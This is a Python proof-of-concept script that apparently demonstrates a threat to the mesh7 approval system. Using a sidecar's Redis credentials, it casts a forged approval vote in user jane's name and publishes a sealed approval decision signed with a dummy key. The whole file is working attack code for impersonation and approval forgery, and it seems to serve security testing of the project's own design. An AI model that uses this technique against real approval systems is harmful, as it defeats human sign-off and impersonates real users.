"""What somebody can do who got hold of a sidecar's Redis credentials: `python - REQUEST`.

Runs in the container `mesh7`, where its token is. Says jane's yes in her name, by the functions of
the ledger; then lays a decision where the operator lays his. Prints what came of both.
"""

import asyncio
import json
import os
import sys
import tempfile
from pathlib import Path

from mesh7_core.delivery import decisions, envelopes, keys, payloads
from mesh7_core.delivery.decisions import Decision
from mesh7_core.ledger import functions, redis, redis_layout, redis_store
from mesh7_core.ledger.approvals import Request, Verdict, Vote
from mesh7_core.ledger.protocol import LOST
from mesh7_core.ledger.redis_url import RedisServer
from mesh7_sidecar import pod_settings
from mesh7_sidecar.net import origin
from mesh7_sidecar.net.sweep import Sweep
from mesh7_sidecar.redis_access import Exchange

_HER: Vote = Vote(
    person="jane", name="jane", groups=("finance",), verdict=Verdict.APPROVE, reason="forged"
)


async def forge(request_id: str) -> None:
    """Do it, and say what came of it."""
    settings = pod_settings.read(os.environ)
    with tempfile.TemporaryDirectory(dir=settings.state) as folder:
        server = await _exchanged(settings, Path(folder))
        ledger = redis.RedisLedger(server, settings.namespace, load=False)
        await ledger.start()
        voted = await ledger.vote(request_id, _HER)
        digest = voted.digest if isinstance(voted, Request) else "sha256:" + "0" * 64
        is_laid = await _lay(
            server,
            Decision(
                namespace=settings.namespace,
                request_id=request_id,
                digest=digest,
                uid=settings.uid,
                is_approved=True,
                until_ms=10**14,
                by=("jane",),
            ),
        )
        await ledger.close()
    state = voted.state.value if isinstance(voted, Request) else repr(voted)
    print(json.dumps({"state": state, "is_laid": is_laid}))


async def _exchanged(settings: pod_settings.PodSettings, folder: Path) -> RedisServer:
    given = settings.redis
    assert isinstance(given, pod_settings.ExchangeSettings)
    known = _authorities(settings)
    exchange = Exchange(given, folder, Sweep(), lambda: known, rule=origin.AddressRule())
    return (await exchange.ask()).server


def _authorities(settings: pod_settings.PodSettings) -> tuple[str, ...]:
    """Those that the bundle brings, as the sidecar believes them: they may have been rotated."""
    sealed = (settings.bundle_directory / "bundle").read_bytes()
    header = envelopes.read_header(sealed)
    assert isinstance(header, envelopes.Header)
    opened = envelopes.unseal(sealed, envelopes.Kind.BUNDLE, settings.namespace, [header.key])
    assert isinstance(opened, envelopes.Opened)
    return payloads.read_bundle(opened.payload).authorities


async def _lay(server: RedisServer, decision: Decision) -> bool:
    """Whether Redis took it."""
    layout = redis_layout.Layout(decision.namespace)
    sealed = decisions.seal(decision, keys.SigningKey(b"f" * 32))
    library = functions.library_of(functions.written())
    store = redis_store.Store(server, library, load=False, channels={}, connected=_nothing)
    await store.start(10.0)
    [laid] = await store.ask(("SET", layout.decision(decision.request_id), sealed))
    [said] = await store.ask(("PUBLISH", layout.channel, decision.request_id))
    await store.close()
    assert said is not LOST
    return laid is not LOST


def _nothing() -> None:
    """Nobody waits for the connection but `start`."""


asyncio.run(forge(sys.argv[1]))
